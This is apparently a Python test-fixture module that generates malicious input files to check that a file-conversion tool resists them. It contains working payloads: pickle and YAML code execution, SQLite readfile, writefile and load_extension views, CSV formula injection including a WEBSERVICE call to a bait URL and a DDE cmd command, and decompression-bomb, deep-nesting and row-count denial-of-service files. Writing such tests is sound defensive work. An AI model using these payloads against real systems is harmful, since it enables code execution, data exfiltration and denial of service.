# ruff: noqa: E501 - a payload reads best in one piece
"""Tables and structured text that nest, repeat, lie and swell (recipe 16)."""

from __future__ import annotations

import io
import pickle
import sqlite3
import tempfile
from pathlib import Path

from makers.attack import ANY, BAD, CONVERTED, EITHER, Attack, Bait, Twin, ends


class _Touch:
    """A pickle of this runs a program when it is read."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self._path), "w")


def _sqlite(script: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "a.db")
        made = sqlite3.connect(path)
        made.executescript(script)
        made.close()
        return path.read_bytes()


def _sqlite_views(bait: Bait) -> bytes:
    """A view without end in the place of a table, one that attaches and reads, and triggers."""
    return _sqlite(
        "CREATE TABLE t(a); INSERT INTO t VALUES ('Harmless');"
        "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT x FROM c;"
        f"CREATE VIEW w AS SELECT readfile('{bait.file}') AS r, writefile('{bait.pwned}','x') AS w;"
        f"CREATE VIEW e AS SELECT load_extension('{bait.file}');"
        "CREATE TRIGGER g AFTER INSERT ON t BEGIN SELECT load_extension('x'); END;"
    )


def _yaml(bait: Bait) -> bytes:
    return (
        f"a: !!python/object/apply:os.system ['touch {bait.pwned}']\nb: !!python/object/new:open ['{bait.pwned}', 'w']\n"
        f"c: !!python/name:os.environ\nd: !include {bait.file}\ne: !ENV ${{HOSTILE_SECRET}}\n"
    ).encode()


def _yaml_aliases(bait: Bait) -> bytes:
    levels = "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]\n" for n in range(1, 11))
    return f"l0: &l0 lol\n{levels}".encode()


def _pickled_npy(bait: Bait) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    return b"\x93NUMPY\1\0" + len(header).to_bytes(2, "little") + header + pickle.dumps(_Touch(bait.pwned))


def _parquet(bait: Bait) -> bytes:
    """A true file of which the number of rows says two to the sixtieth."""
    import polars

    made = io.BytesIO()
    polars.DataFrame({"a": list(range(1000))}).write_parquet(made)
    data = bytearray(made.getvalue())
    length = int.from_bytes(data[-8:-4], "little")
    footer = bytes(data[-8 - length : -8])
    vast = footer.replace(b"\xd0\x0f", b"\xfe\xff\xff\xff\xff\xff\xff\xff\x3f")
    return bytes(data[: -8 - length]) + vast + len(vast).to_bytes(4, "little") + b"PAR1"


def _csv_formulas(bait: Bait) -> bytes:
    cells = [
        f'=WEBSERVICE("{bait.url}/c")',
        "=cmd|' /C touch pwned'!A1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        f'=HYPERLINK("{bait.url}")',
        "Harmless",
    ]
    return ("a,b\n" + "".join('"' + cell.replace('"', '""') + '",1\n' for cell in cells)).encode()


_DEEP = ends("corrupt_input", "resource_limit")

ATTACKS = (
    Attack("csv-formulas", "a.csv", _csv_formulas, ("xlsx", "html"), ("B32",)),
    Attack("csv-wide", "a.csv", lambda _: b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b"1," * 99_999 + b"1\n", ("xlsx", "json"),
           ("B31",), ANY),
    Attack("csv-one-line", "a.csv", lambda _: b"a,b\n" + b"x" * (32 << 20) + b",1\n", ("json", "xlsx"), ("B31",), ANY),
    Attack("csv-unclosed-quote", "a.csv", lambda _: b'a,b\n"' + b"x,y\n" * 200_000, ("json",), ("B31",), ANY),
    Attack("json-deep", "a.json", lambda _: b"[" * 1_000_000, ("yaml", "csv"), ("B31",), _DEEP),
    Attack("json-deep-and-whole", "a.json", lambda _: b'{"a":' * 200_000 + b"1" + b"}" * 200_000, ("yaml", "xml"), ("B31",), _DEEP),
    Attack("json-vast-number", "a.json", lambda _: b'{"a":' + b"9" * 1_000_000 + b"}", ("yaml", "csv", "toml"), ("B31",), ANY),
    Attack("json-same-keys", "a.json", lambda _: b'{"a":1,"a":2,"__proto__":{"b":1}}', ("yaml",), ("B31",), EITHER),
    Attack("yaml-objects", "a.yaml", _yaml, ("json", "xml"), ("B31",), EITHER),
    Attack("yaml-aliases", "a.yaml", _yaml_aliases, ("json", "toml"), ("B31",), ends("corrupt_input", "resource_limit", "archive_bomb", "timeout")),
    Attack("yaml-deep", "a.yaml", lambda _: b"a: " + b"[" * 100_000 + b"]" * 100_000, ("json",), ("B31",), _DEEP),
    Attack("toml-deep", "a.toml", lambda _: b"a = " + b"[" * 100_000 + b"]" * 100_000 + b"\n", ("json",), ("B31",), _DEEP),
    Attack("toml-tables", "a.toml", lambda _: b"[" + b".".join(b"a" for _ in range(50_000)) + b"]\nb = 1\n", ("json",), ("B31",), _DEEP),
    Attack("xml-attributes", "a.xml", lambda _: b"<?xml version='1.0'?><a " + b" ".join(b'b%d="1"' % n for n in range(200_000)) + b"/>", ("json",),
           ("B31",), ANY),
    Attack("xml-deep", "a.xml", lambda _: b"<?xml version='1.0'?>" + b"<a>" * 100_000 + b"</a>" * 100_000, ("json", "yaml"), ("B31",), _DEEP),
    Attack("sqlite-views", "a.sqlite", _sqlite_views, ("csv", "json", "xlsx"), ("B31",), ANY),
    Attack("parquet-rows", "a.parquet", _parquet, ("csv", "json"), ("B31",), ANY),
    Attack("npy-pickle-named-csv", "a.csv", _pickled_npy, ("json",), ("B31",), EITHER),
    Attack("pickle-named-parquet", "a.parquet", lambda bait: pickle.dumps(_Touch(bait.pwned)), ("csv",), ("B31",), BAD | {"unsupported_conversion"}),
    Attack("ndjson-bare", "a.ndjson", lambda _: b'{"a":1}\n' * 1000 + b'{"a":' + b"[" * 100_000, ("csv",), ("B31",), _DEEP | {CONVERTED}),
)  # fmt: skip

TWINS = (
    Twin("json five hundred deep", "a.json", lambda: b'{"a":' * 500 + b'"Harmless"' + b"}" * 500, "yaml", "Harmless", ("B31",)),
    Twin("yaml with an alias", "a.yaml", lambda: b"a: &x [1, Harmless]\nb: *x\n", "json", "Harmless", ("B31",)),
    Twin("csv with a minus", "a.csv", lambda: b"a,b\n-1,Harmless\n=5,2\n", "json", "Harmless", ("B32",)),
    Twin("sqlite with a view", "a.sqlite", lambda: _sqlite("CREATE TABLE t(a);INSERT INTO t VALUES('Harmless');CREATE VIEW v AS SELECT a FROM t;"),
         "json", "Harmless", ("B31",)),
)  # fmt: skip
